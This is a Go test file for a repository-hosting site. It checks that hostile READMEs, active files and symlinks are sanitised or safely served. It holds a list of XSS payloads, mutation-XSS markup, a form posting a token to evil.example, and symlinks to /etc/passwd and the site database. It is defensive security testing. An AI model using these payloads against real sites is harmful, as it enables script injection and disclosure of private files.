package ui_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"image"
	"image/png"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"golang.org/x/net/html"

	"github.com/blueprints-hq/blueprints/internal/testenv"
)

// hostileReadme tries every way Markdown and raw HTML could run script in
// our origin, or load or submit something from elsewhere.
const hostileReadme = `# Hostile

<script>alert('script-tag')</script>
<img src="x" onerror="alert('onerror')">
[a link](javascript:alert('md-link'))
<a href="JaVaScRiPt:alert('html-link')">html link</a>
<javascript:alert('autolink')>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg')</script><circle onload="alert('svg-onload')"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input name="token"><button formaction="javascript:alert('formaction')">go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { background: url(https://evil.example/track) }</style>
<div style="background:url(javascript:alert('style'))" onclick="alert('onclick')">styled</div>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
![img](javascript:alert('md-img'))
![data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)
`

// projectPartsAction is where a project page's part filter submits.
var projectPartsAction = regexp.MustCompile(`^/[A-Za-z0-9._-]+/[A-Za-z0-9._-]+#parts$`)

// activeMarkup returns what in page could run script, load a frame or
// plugin, restyle or redirect the page, or submit a form elsewhere: every
// element and attribute beyond the site's own layout (its stylesheet,
// icon, search form, the project page's part filter and its scripts from
// /static/).
func activeMarkup(page string) []string {
	var found []string
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return found
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		attrs := map[string]string{}
		for _, a := range tok.Attr {
			attrs[strings.ToLower(a.Key)] = a.Val
			v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			if tok.Data == "meta" && a.Key == "content" {
				continue // text for link previews (og:description), never fetched or run
			}
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "formaction", a.Key == "srcdoc":
				found = append(found, tok.String())
			case strings.HasPrefix(v, "javascript:"), strings.HasPrefix(v, "vbscript:"), strings.HasPrefix(v, "data:text"), strings.Contains(v, "evil.example/track"):
				found = append(found, tok.String())
			}
		}
		own := strings.HasPrefix(attrs["src"], "/static/") || strings.HasPrefix(attrs["href"], "/static/")
		// The page's canonical address and feeds, on the test server's own
		// origin (README markup can make no <link> at all).
		if tok.Data == "link" && (attrs["rel"] == "canonical" || attrs["rel"] == "alternate") && strings.HasPrefix(attrs["href"], "http://127.0.0.1:") {
			own = true
		}
		switch tok.Data {
		case "script":
			if !own && attrs["type"] != "importmap" {
				found = append(found, tok.String())
			}
		case "link":
			if !own {
				found = append(found, tok.String())
			}
		case "form":
			// The site's own forms: search, and the project page's part
			// filter, which submits to the project page.
			if attrs["action"] != "/search" && !(attrs["class"] == "parts-filter" && projectPartsAction.MatchString(attrs["action"])) {
				found = append(found, tok.String())
			}
		case "meta":
			if _, ok := attrs["http-equiv"]; ok {
				found = append(found, tok.String())
			}
		case "iframe", "frame", "object", "embed", "base", "style", "svg", "math", "applet":
			found = append(found, tok.String())
		}
	}
}

// hostileProject pushes a project with a hostile README, files a browser
// would run (SVG, HTML, XML, JavaScript) and symbolic links pointing out of
// the repository, next to one real part.
func hostileProject(t *testing.T) (*site, string) {
	t.Helper()
	testenv.RequireTool(t, "git")
	srv := testenv.StartServer(t, testenv.Options{})
	s := &site{srv: srv, token: srv.AddUser(t, owner), work: t.TempDir()}
	dir := filepath.Join(s.work, "hostile")
	write := func(name, content string) {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("README.md", hostileReadme)
	write("docs/notes.md", hostileReadme)
	write("active/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('svg')</script></svg>`)
	write("active/evil.html", `<!doctype html><script>alert('html')</script>`)
	write("active/evil.htm", `<html><body onload="alert('htm')"></body></html>`)
	write("active/evil.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert('xhtml')</script></html>`)
	write("active/evil.xml", `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert('xml')</x:script>`)
	write("active/evil.js", `alert('js')`)
	write("active/evil.txt", `<html><script>alert('sniffed')</script></html>`)
	write("active/noext", `<!doctype html><script>alert('noext')</script>`)
	part, err := os.ReadFile(filepath.Join(testenv.ModuleRoot(t), "testdata/corpus/prusa3d__Original-Prusa-i3/Printed-Parts/STL/plug-aligner.stl"))
	if err != nil {
		t.Fatal(err)
	}
	write("parts/real.stl", string(part))
	// A folder whose README shows images: an SVG, a hostile SVG, a PNG,
	// and HTML pretending to be a PNG.
	write("gallery/README.md", "# Gallery\n\n![diagram](diagram.svg)\n\n![evil](evil.svg)\n\n![photo](photo.png)\n\n![fake](fake.png)\n")
	write("gallery/diagram.svg", diagramSVG)
	write("gallery/evil.svg", evilSVG)
	write("gallery/photo.png", string(bluePNG(t)))
	write("gallery/fake.png", `<!doctype html><script>alert('fake png')</script>`)
	testenv.Git(t, "", "init", "-q", "-b", "main", dir)
	for link, target := range symlinks {
		p := filepath.Join(dir, link)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	s.commitAndPush(t, dir, "hostile", "hostile content")
	s.waitCatalogued(t, "hostile")
	return s, dir
}

// diagramSVG is an image of one magenta rectangle.
const diagramSVG = `<?xml version="1.0" encoding="UTF-8"?>
<!-- Created by hand -->
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120" viewBox="0 0 200 120"><rect width="200" height="120" fill="#ff00ff"/></svg>
`

// evilSVG would change its flag, from "untouched" to "script ran", if
// its scripts ran.
const evilSVG = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60" onload="document.getElementById('flag').textContent = 'script ran'">
<rect width="120" height="60" fill="#00c000"/>
<text id="flag" x="10" y="35">untouched</text>
<script>document.getElementById('flag').textContent = 'script ran'; document.documentElement.setAttribute('data-ran', 'yes');</script>
</svg>
`

// bluePNG is a 40×20 PNG, all blue.
func bluePNG(t *testing.T) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 40, 20))
	for i := 0; i < len(img.Pix); i += 4 {
		img.Pix[i], img.Pix[i+1], img.Pix[i+2], img.Pix[i+3] = 0, 0, 255, 255
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// symlinks are the links pushed, by path, with their targets: out of the
// repository, into the data folder, and to a real part.
var symlinks = map[string]string{
	"links/passwd.stl":   "/etc/passwd",
	"links/up.txt":       "../../../../../../../../etc/passwd",
	"links/db.txt":       "../../../blueprints.db",
	"links/etc":          "/etc",
	"links/README.md":    "/etc/passwd",
	"links/same.stl":     "../parts/real.stl",
	"links/hostname.txt": "/etc/hostname",
}

func TestHostileContent(t *testing.T) {
	s, _ := hostileProject(t)
	base := s.srv.URL + "/" + owner + "/hostile"

	t.Run("markdown", func(t *testing.T) {
		// The checker itself must see the attacks in the unsanitised text.
		if n := len(activeMarkup(hostileReadme)); n < 15 {
			t.Fatalf("activeMarkup finds only %d attacks in the raw README", n)
		}
		for _, page := range []string{base, base + "/blob/main/docs/notes.md"} {
			code, body, h := get(t, page, nil)
			if code != 200 || !strings.Contains(body, "Hostile") {
				t.Fatalf("%s: %d\n%s", page, code, body)
			}
			if bad := activeMarkup(body); len(bad) > 0 {
				t.Errorf("%s: active markup survived:\n%s", page, strings.Join(bad, "\n"))
			}
			csp := h.Get("Content-Security-Policy")
			for _, want := range []string{"default-src 'self'", "script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"} {
				if !strings.Contains(csp, want) {
					t.Errorf("%s: CSP %q lacks %q", page, csp, want)
				}
			}
			if strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval") {
				t.Errorf("%s: CSP %q allows inline or eval'd script", page, csp)
			}
			if h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Referrer-Policy") == "" {
				t.Errorf("%s: security headers missing: %v", page, h)
			}
		}
	})

	t.Run("raw", func(t *testing.T) {
		for _, name := range []string{"evil.svg", "evil.html", "evil.htm", "evil.xhtml", "evil.xml", "evil.js", "evil.txt", "noext"} {
			u := base + "/raw/main/active/" + name
			code, body, h := get(t, u, nil)
			if code != 200 || !strings.Contains(body, "alert(") {
				t.Fatalf("%s: %d %q, want the file's bytes", u, code, body)
			}
			ct := strings.ToLower(h.Get("Content-Type"))
			if ct == "" || strings.Contains(ct, "html") || strings.Contains(ct, "svg") || strings.Contains(ct, "xml") || strings.Contains(ct, "javascript") {
				t.Errorf("%s: served as %q, which a browser would run", name, ct)
			}
			csp := h.Get("Content-Security-Policy")
			if !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") {
				t.Errorf("%s: CSP %q, want a sandbox that allows nothing", name, csp)
			}
			if h.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s: no nosniff", name)
			}
		}
	})

	t.Run("symlinks", func(t *testing.T) {
		for link, target := range symlinks {
			code, body, h := get(t, base+"/raw/main/"+link, nil)
			if code != 200 || body != target {
				t.Errorf("raw %s: %d %q, want the link's own text %q", link, code, body, target)
			}
			if strings.Contains(body, "root:") {
				t.Errorf("raw %s: served the target's content", link)
			}
			if !strings.HasPrefix(h.Get("Content-Type"), "text/plain") {
				t.Errorf("raw %s: served as %q", link, h.Get("Content-Type"))
			}
			code, body, _ = get(t, base+"/blob/main/"+link, nil)
			if code != 200 || !strings.Contains(body, "Symbolic link to") || strings.Contains(body, "root:x:0") || strings.Contains(body, "class=\"viewer\"") {
				t.Errorf("blob page of %s: %d\n%s", link, code, body)
			}
		}
		for _, p := range []string{"/raw/main/links/etc/passwd", "/blob/main/links/etc/passwd", "/tree/main/links/etc"} {
			if code, body, _ := get(t, base+p, nil); code == 200 || strings.Contains(body, "root:x:0") {
				t.Errorf("%s through a link to /etc: %d", p, code)
			}
		}
		if code, body, _ := get(t, base+"/tree/main/links", nil); code != 200 || !strings.Contains(body, "passwd.stl") {
			t.Errorf("tree of links: %d", code)
		}
		// The project page lists no linked part, and the catalog measured
		// only the real one.
		code, body, _ := get(t, s.srv.URL+"/api/v1/projects/"+owner+"/hostile", nil)
		if code != 200 {
			t.Fatalf("API: %d %s", code, body)
		}
		var proj struct {
			Parts []struct {
				Path string `json:"path"`
			} `json:"parts"`
		}
		if err := json.Unmarshal([]byte(body), &proj); err != nil {
			t.Fatalf("API: %v\n%s", err, body)
		}
		var paths []string
		for _, p := range proj.Parts {
			paths = append(paths, p.Path)
		}
		if len(paths) != 1 || paths[0] != "parts/real.stl" {
			t.Errorf("catalogued parts %v, want only parts/real.stl (links are not parts)", paths)
		}
	})

	t.Run("readme images", func(t *testing.T) { readmeImageTests(t, s, base) })

	t.Run("archive", func(t *testing.T) {
		code, body, _ := get(t, base+"/archive/main.zip", nil)
		if code != 200 {
			t.Fatalf("archive: %d", code)
		}
		zr, err := zip.NewReader(bytes.NewReader([]byte(body)), int64(len(body)))
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, f := range zr.File {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			data, _ := io.ReadAll(rc)
			rc.Close()
			if strings.Contains(string(data), "root:x:0") {
				t.Errorf("archive entry %s holds /etc/passwd", f.Name)
			}
			rel := strings.TrimPrefix(f.Name, "hostile-main/")
			target, isLink := symlinks[rel]
			if !isLink {
				continue
			}
			seen[rel] = true
			if f.Mode()&fs.ModeSymlink == 0 || string(data) != target {
				t.Errorf("archive entry %s: mode %v, content %q; want a link to %q", rel, f.Mode(), data, target)
			}
		}
		if len(seen) != len(symlinks) {
			t.Errorf("archive has %d of %d links", len(seen), len(symlinks))
		}
	})
}

// readmeImageTests: a README's images are served as images from image/,
// an SVG among them shows in Chromium, and a hostile SVG's script never
// runs, embedded or opened on its own; image/ serves images only.
func readmeImageTests(t *testing.T, s *site, base string) {
	code, body, _ := get(t, base+"/tree/main/gallery", nil)
	if code != 200 {
		t.Fatalf("gallery: status %d", code)
	}
	m := regexp.MustCompile(`src="(/maker/hostile/image/[0-9a-f]{40}/gallery/diagram\.svg)"`).FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("the README's SVG does not point at image/:\n%s", body)
	}
	imageBase := strings.TrimSuffix(m[1], "diagram.svg")

	for name, want := range map[string]string{"diagram.svg": "image/svg+xml", "evil.svg": "image/svg+xml", "photo.png": "image/png"} {
		code, _, h := get(t, s.srv.URL+imageBase+name, nil)
		if code != 200 || h.Get("Content-Type") != want {
			t.Errorf("image/%s: status %d, type %q, want 200 and %s", name, code, h.Get("Content-Type"), want)
		}
		csp := h.Get("Content-Security-Policy")
		if !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
			t.Errorf("image/%s: CSP %q, want a sandbox with no script", name, csp)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(h.Get("Content-Disposition"), "inline") {
			t.Errorf("image/%s: nosniff %q, disposition %q", name, h.Get("X-Content-Type-Options"), h.Get("Content-Disposition"))
		}
	}
	// Nothing but images: not a page, not a script, not HTML named .png,
	// not a link.
	for _, p := range []string{imageBase + "fake.png", imageBase + "README.md", "/maker/hostile/image/main/active/evil.html", "/maker/hostile/image/main/active/evil.js", "/maker/hostile/image/main/links/passwd.stl", "/maker/hostile/image/main/gallery"} {
		if code, body, h := get(t, s.srv.URL+p, nil); code != 404 || strings.Contains(body, "alert(") || strings.HasPrefix(h.Get("Content-Type"), "image/") {
			t.Errorf("GET %s: status %d, type %q; want 404 and no file", p, code, h.Get("Content-Type"))
		}
	}
	// raw/ stays as safe as it was.
	if _, _, h := get(t, base+"/raw/main/gallery/evil.svg", nil); !strings.HasPrefix(h.Get("Content-Type"), "text/plain") {
		t.Errorf("raw SVG served as %q", h.Get("Content-Type"))
	}

	b := testenv.StartChromium(t)
	ctx, cancel := b.Tab(t, 2*time.Minute)
	defer cancel()
	err := chromedp.Do(ctx, chromedp.Navigate(base+"/tree/main/gallery"), chromedp.WaitVisible(`.readme img[alt="diagram"]`))
	if err != nil {
		t.Fatalf("open the gallery: %v", err)
	}
	loaded, err := chromedp.Run(ctx, chromedp.Poll[string](`(() => {
		const imgs = [...document.querySelectorAll('.readme img')];
		if (!imgs.every(i => i.complete)) return null;
		return imgs.map(i => i.alt + '=' + i.naturalWidth + 'x' + i.naturalHeight).join(',');
	})()`, chromedp.WithPollingTimeout(30*time.Second)))
	if err != nil {
		t.Fatalf("README images: %v", err)
	}
	if loaded != "diagram=200x120,evil=120x60,photo=40x20,fake=0x0" {
		t.Errorf("README images loaded as %s; want the SVGs and the PNG drawn, the fake PNG not", loaded)
	}
	shot, err := chromedp.Run(ctx, chromedp.Screenshot(`.readme img[alt="diagram"]`))
	if err != nil {
		t.Fatalf("screenshot the SVG: %v", err)
	}
	img, err := png.Decode(bytes.NewReader(shot))
	if err != nil {
		t.Fatal(err)
	}
	magenta, all := 0, img.Bounds().Dx()*img.Bounds().Dy()
	for y := img.Bounds().Min.Y; y < img.Bounds().Max.Y; y++ {
		for x := img.Bounds().Min.X; x < img.Bounds().Max.X; x++ {
			r, g, bl, _ := img.At(x, y).RGBA()
			if r>>8 > 230 && g>>8 < 40 && bl>>8 > 230 {
				magenta++
			}
		}
	}
	if magenta < all*8/10 {
		t.Errorf("the README's SVG shows %d magenta pixels of %d", magenta, all)
	}
	if full, err := chromedp.Run(ctx, chromedp.CaptureScreenshot()); err == nil {
		saveScreenshot(t, "readme-images.png", full)
	}

	// The hostile SVG opened on its own: its flag stays as it was.
	flag := func(url string) string {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil {
			t.Fatalf("open %s: %v", url, err)
		}
		// Give a script every chance to run: wait until the document has
		// loaded, and a moment more for its load handlers.
		const read = `document.readyState === 'complete' && document.getElementById('flag') ? document.getElementById('flag').textContent + '|' + document.documentElement.getAttribute('data-ran') : null`
		if _, err := chromedp.Run(ctx, chromedp.Poll[string](read, chromedp.WithPollingTimeout(20*time.Second))); err != nil {
			t.Fatalf("read the flag at %s: %v", url, err)
		}
		time.Sleep(500 * time.Millisecond)
		got, err := chromedp.Run(ctx, chromedp.Evaluate[string](read))
		if err != nil {
			t.Fatalf("read the flag at %s: %v", url, err)
		}
		return got
	}
	if got := flag(s.srv.URL + imageBase + "evil.svg"); got != "untouched|null" {
		t.Errorf("the hostile SVG from image/ ran its script: flag %q", got)
	}
	// The same file served plainly, as an image without the sandbox: its
	// script runs, so the flag above would have shown it.
	control := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/svg+xml")
		io.WriteString(w, evilSVG)
	}))
	defer control.Close()
	if got := flag(control.URL + "/evil.svg"); got != "script ran|yes" {
		t.Errorf("control: the hostile SVG served without a sandbox gave flag %q; the check cannot see a script run", got)
	}
}
